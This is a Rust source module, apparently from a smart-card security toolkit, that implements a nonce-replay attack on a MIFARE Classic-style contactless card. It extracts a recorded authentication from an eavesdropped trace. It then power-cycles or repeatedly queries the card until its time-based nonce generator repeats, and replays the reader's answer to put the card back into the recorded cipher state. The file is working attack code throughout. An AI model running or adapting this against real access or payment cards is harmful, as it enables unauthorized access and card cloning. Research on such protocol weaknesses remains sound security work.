//! Bringing a card back to a recorded authentication.
//!
//! The card's nonce depends only on the time since power-up, so asking for a
//! nonce at the same moment after power-up as the genuine reader did yields
//! the recorded nonce. Replaying the recorded reader answer then puts the
//! card in exactly the recorded cipher state.

use alloc::format;
use alloc::string::String;
use alloc::vec::Vec;

use super::keystream::{CipherLayout, FrameShape};
use super::{AttackError, FIRST_COMMAND_START};
use crate::commands::CommandTable;
use crate::framing::{
    compute_bcc, decode_frame, encode_frame, with_crc, FrameKind, WireBits, AUTH_KEY_B, ETU_PER_BIT, REQA, SAK,
    SELECT_ANTICOLLISION, SELECT_COMMIT,
};
use crate::layout::KeySlot;
use crate::session::AttackerPort;
use crate::tracefmt::{is_auth_request, Sender, Trace, TraceEntry};

/// How to get the recorded nonce again.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Strategy {
    /// Power-cycle, wait `power_up_etu` plus the recorded anticollision
    /// time, then ask once.
    FixedDelay { power_up_etu: u64 },
    /// Power up once and keep asking, one bit period later each time.
    Spam,
}

/// Period of the card's nonce generator as far as the replay budget is
/// concerned.
const NONCE_PERIOD: u64 = 65_535;

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttackOptions {
    pub strategy: Strategy,
    /// Attempts per replay; `None` picks a default for the strategy.
    pub budget: Option<u64>,
    /// Assumed plaintext of block 0, bytes 5..10.
    pub mfr1: [u8; 5],
    /// Command codes assumed for the card.
    pub commands: CommandTable,
}

impl Default for AttackOptions {
    fn default() -> Self {
        AttackOptions {
            strategy: Strategy::FixedDelay { power_up_etu: 1024 },
            budget: None,
            mfr1: [0x08, 0x04, 0x00, 0x62, 0x63],
            commands: CommandTable::default(),
        }
    }
}

impl AttackOptions {
    pub fn budget(&self) -> u64 {
        self.budget.unwrap_or(match self.strategy {
            Strategy::FixedDelay { .. } => 50,
            Strategy::Spam => 3 * NONCE_PERIOD,
        })
    }
}

/// What a replay needs from an eavesdropped authentication.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ReplayContext {
    pub uid: [u8; 4],
    pub auth_seq: u32,
    pub auth_request: Vec<u8>,
    pub block: usize,
    pub slot: KeySlot,
    pub nonce: u32,
    pub reader_answer: WireBits,
    pub card_answer: WireBits,
    /// ETU from the first REQA to the authentication request.
    pub anticollision_etu: u64,
    pub layout: CipherLayout,
    /// First command after authentication and the card's answer.
    pub command: Option<(TraceEntry, Option<TraceEntry>)>,
}

impl ReplayContext {
    pub fn from_trace(trace: &Trace) -> Result<ReplayContext, AttackError> {
        let bad = |s: &str| AttackError::MalformedTrace(String::from(s));
        let es = &trace.entries;
        let a = es.iter().position(is_auth_request).ok_or_else(|| bad("no plaintext authentication request"))?;
        let uid = es[..a]
            .iter()
            .find_map(|e| {
                let v = e.values();
                let tag_uid = e.sender == Sender::Tag && v.len() == 5 && compute_bcc(&v[..4]) == Ok(v[4]);
                let select = e.sender == Sender::Pcd && v.len() == 9 && v[..2] == SELECT_COMMIT;
                match (tag_uid, select) {
                    (true, _) => Some([v[0], v[1], v[2], v[3]]),
                    (_, true) => Some([v[2], v[3], v[4], v[5]]),
                    _ => None,
                }
            })
            .ok_or_else(|| bad("no anticollision before the authentication"))?;
        let get = |i: usize, sender: Sender, len: usize, what: &str| {
            es.get(i)
                .filter(|e| e.sender == sender && e.len() == len)
                .ok_or_else(|| AttackError::MalformedTrace(format!("missing {what} after the authentication request")))
        };
        let nonce = get(a + 1, Sender::Tag, 4, "card nonce")?.values();
        let reader_answer = get(a + 2, Sender::Pcd, 8, "reader answer")?.to_wire();
        let card_answer = get(a + 3, Sender::Tag, 4, "card answer")?.to_wire();
        let request = es[a].values();
        let first = es.iter().position(|e| e.sender == Sender::Pcd && e.len() == 1 && e.values()[0] == REQA).unwrap_or(0);
        let anticollision_etu = if first < a { es[first + 1..=a].iter().map(|e| e.etu_delta).sum() } else { 0 };
        let command = es.get(a + 4).filter(|e| e.sender == Sender::Pcd).map(|c| {
            let answer = es.get(a + 5).filter(|r| r.sender == Sender::Tag).cloned();
            (c.clone(), answer)
        });
        Ok(ReplayContext {
            uid,
            auth_seq: es[a].seq,
            block: usize::from(request[1]),
            slot: if request[0] == AUTH_KEY_B { KeySlot::B } else { KeySlot::A },
            auth_request: request,
            nonce: u32::from_be_bytes([nonce[0], nonce[1], nonce[2], nonce[3]]),
            reader_answer,
            card_answer,
            anticollision_etu,
            layout: CipherLayout::from_trace(trace),
            command,
        })
    }

    /// Ciphertext of the first command and the shape of the answer to it.
    pub fn first_command(&self) -> Result<(WireBits, Option<FrameShape>), AttackError> {
        let (cmd, answer) =
            self.command.as_ref().ok_or_else(|| AttackError::MalformedTrace(String::from("no command after authentication")))?;
        if cmd.len() != 4 {
            return Err(AttackError::MalformedTrace(String::from("first command is not 4 bytes")));
        }
        let shape = answer.as_ref().map(|a| if a.len() == 1 { FrameShape::Nibble } else { FrameShape::Standard(a.len()) });
        Ok((cmd.to_wire(), shape))
    }
}

/// A card brought back to the recorded session, ready for the first command.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ReplayedSession {
    /// Nonce requests it took.
    pub attempts: u64,
    /// Keystream index of the next frame.
    pub pos: usize,
}

impl ReplayedSession {
    /// Sends a frame and advances the position past it and the answer.
    pub fn send<P: AttackerPort + ?Sized>(&mut self, port: &mut P, frame: &WireBits) -> Option<WireBits> {
        let reply = port.send(frame);
        self.pos += frame.data_len();
        if let Some(r) = &reply {
            self.pos += r.data_len();
        }
        reply
    }
}

fn send_clear<P: AttackerPort + ?Sized>(port: &mut P, bytes: &[u8]) -> Option<Vec<u8>> {
    let reply = port.send(&encode_frame(bytes, FrameKind::Standard).expect("non-empty"))?;
    decode_frame(&reply).ok().filter(|d| d.all_parity_ok()).map(|d| d.bytes)
}

/// Wakes the card and selects it.
pub fn select_card<P: AttackerPort + ?Sized>(port: &mut P, uid: [u8; 4]) -> Result<(), AttackError> {
    let reqa = encode_frame(&[REQA], FrameKind::Short7).expect("short frame");
    // a card in the middle of something halts on the first REQA and wakes on
    // the second
    if port.send(&reqa).is_none() && port.send(&reqa).is_none() {
        return Err(AttackError::NoAnswer("request"));
    }
    let bcc = compute_bcc(&uid).expect("4 bytes");
    let answer = send_clear(port, &SELECT_ANTICOLLISION).ok_or(AttackError::NoAnswer("anticollision"))?;
    if answer[..] != [uid[0], uid[1], uid[2], uid[3], bcc] {
        return Err(AttackError::Verification(String::from("a different card answered")));
    }
    let mut commit = SELECT_COMMIT.to_vec();
    commit.extend_from_slice(&uid);
    commit.push(bcc);
    match send_clear(port, &with_crc(&commit)) {
        Some(sak) if sak == with_crc(&[SAK]) => Ok(()),
        _ => Err(AttackError::NoAnswer("select")),
    }
}

fn request_nonce<P: AttackerPort + ?Sized>(port: &mut P, ctx: &ReplayContext) -> Option<u32> {
    let n = send_clear(port, &ctx.auth_request)?;
    (n.len() == 4).then(|| u32::from_be_bytes([n[0], n[1], n[2], n[3]]))
}

/// Requests nonces until the card produces the recorded one, then sends the
/// recorded reader answer. On success the card is in the recorded session
/// and expects the first command.
pub fn replay_until_nonce<P: AttackerPort + ?Sized>(
    port: &mut P,
    ctx: &ReplayContext,
    options: &AttackOptions,
) -> Result<ReplayedSession, AttackError> {
    let budget = options.budget();
    let mut attempts = 0;
    if options.strategy == Strategy::Spam {
        port.power_cycle();
    }
    while attempts < budget {
        attempts += 1;
        match options.strategy {
            Strategy::FixedDelay { power_up_etu } => {
                port.power_cycle();
                select_card(port, ctx.uid)?;
                port.advance_clock(power_up_etu + ctx.anticollision_etu);
            }
            Strategy::Spam => {
                select_card(port, ctx.uid)?;
                port.advance_clock(ETU_PER_BIT);
            }
        }
        if request_nonce(port, ctx) != Some(ctx.nonce) {
            continue;
        }
        return match port.send(&ctx.reader_answer) {
            Some(answer) if answer == ctx.card_answer => Ok(ReplayedSession { attempts, pos: FIRST_COMMAND_START }),
            Some(_) => Err(AttackError::Verification(String::from("card answered the replayed challenge differently"))),
            None => Err(AttackError::NoAnswer("replayed reader answer")),
        };
    }
    Err(AttackError::RetryLimit { attempts })
}
